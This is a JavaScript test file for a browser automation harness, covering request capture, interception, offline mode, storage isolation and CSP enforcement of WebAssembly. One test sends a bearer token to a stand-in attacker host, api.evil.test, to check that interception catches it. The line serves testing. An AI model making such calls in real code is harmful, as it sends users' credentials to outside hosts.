// The instruments themselves, with a page that does not use the package: a driver that sees nothing would let every
// other test pass.
import assert from "node:assert/strict";
import { test } from "node:test";
import { engine } from "./driver.mjs";
import { openPage, setUpWorld, until } from "./world.mjs";

const world = setUpWorld();

async function blankTab() {
  const tab = await world.newTab();
  await openPage(tab, `${world.host.origin}/`);
  return tab;
}

test("a tab reports its requests, console and uncaught errors", async () => {
  const tab = await blankTab();
  await tab.evaluate(async (url) => {
    console.log("hello", { a: 1 });
    setTimeout(() => { throw new Error("uncaught on purpose"); });
    await fetch(url);
  }, `${world.provider.origin}/ok/jwks`);
  await until("the error", () => tab.errors.some((text) => text.includes("uncaught on purpose")));
  assert.ok(tab.console.some((text) => text.includes("hello")));
  assert.ok(tab.requests.some(({ method, url }) => method === "GET" && url.endsWith("/ok/jwks")));
});

test("the host hears of unhandled rejections, also from a page that goes away", async () => {
  const tab = await blankTab();
  await tab.evaluate(() => { void Promise.reject(new Error("nobody listens")); });
  await until("the report", () => world.host.unhandled.length > 0);
  assert.match(world.host.unhandled.splice(0)[0], /nobody listens/);
});

test("an interceptor sees requests to hosts that do not exist, with their headers", async () => {
  const tab = await blankTab();
  const seen = [];
  await tab.intercept((url) => url.hostname.endsWith(".test"), (request) => {
    seen.push(request);
    return {
      status: 200,
      headers: { "access-control-allow-origin": "*", "access-control-allow-headers": "authorization" },
      body: "intercepted",
    };
  });
  const body = await tab.evaluate(async () => {
    const response = await fetch("https://api.evil.test/x", { headers: { authorization: "Bearer seen" } });
    return response.text();
  });
  assert.equal(body, "intercepted");
  assert.ok(seen.some(({ headers }) => headers.authorization === "Bearer seen"), JSON.stringify(seen));
  assert.equal(await tab.evaluate(async (url) => (await fetch(url)).status, `${world.provider.origin}/ok/jwks`), 200);
});

test("an interceptor can fail a request", async () => {
  const tab = await blankTab();
  await tab.intercept((url) => url.pathname === "/ok/jwks", () => null);
  const failed = await tab.evaluate((url) => fetch(url).then(() => false, () => true), `${world.provider.origin}/ok/jwks`);
  assert.equal(failed, true);
});

test("offline is offline, and ends", async () => {
  const tab = await blankTab();
  const reach = () => tab.evaluate((url) => fetch(url).then(() => true, () => false), `${world.provider.origin}/ok/jwks`);
  await tab.evaluate(() => {
    globalThis.heard = [];
    for (const name of ["offline", "online"]) addEventListener(name, () => globalThis.heard.push(name));
  });
  assert.equal(await reach(), true);
  await tab.setOffline(true);
  assert.equal(await reach(), false);
  await tab.setOffline(false);
  assert.equal(await reach(), true);
  await until("both events", () => tab.evaluate(() => globalThis.heard.join() === "offline,online"));
});

test("profiles share nothing, tabs of one profile share localStorage", async () => {
  const profile = await world.newProfile();
  const [first, second, stranger] = [await profile.newTab(), await profile.newTab(), await world.newTab()];
  for (const tab of [first, second, stranger]) await openPage(tab, `${world.host.origin}/`);
  await first.evaluate(() => localStorage.setItem("shared", "yes"));
  assert.equal(await second.evaluate(() => localStorage.getItem("shared")), "yes");
  assert.equal(await stranger.evaluate(() => localStorage.getItem("shared")), null);
});

test("the page without 'wasm-unsafe-eval' refuses WebAssembly, the others do not", async () => {
  const starts = (tab) => tab.evaluate(async () => {
    const emptyModule = new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]);
    // Chromium and Firefox refuse to compile a module, WebKitGTK refuses to start it.
    return WebAssembly.instantiate(emptyModule).then(() => true, () => false);
  });
  const tab = await blankTab();
  assert.equal(await starts(tab), true);
  await openPage(tab, `${world.host.origin}/no-wasm.html`);
  assert.equal(await starts(tab), false, `${engine} should enforce the policy`);
});

test("the browser reaches the provider's API across origins", async () => {
  const tab = await blankTab();
  const status = await tab.evaluate(async (url) => {
    const response = await fetch(url, { headers: { authorization: "Bearer made-up" } });
    return `${response.status} ${response.headers.get("www-authenticate")}`;
  }, `${world.provider.origin}/api/v1/notes`);
  assert.equal(status, '401 Bearer error="invalid_token"');
});
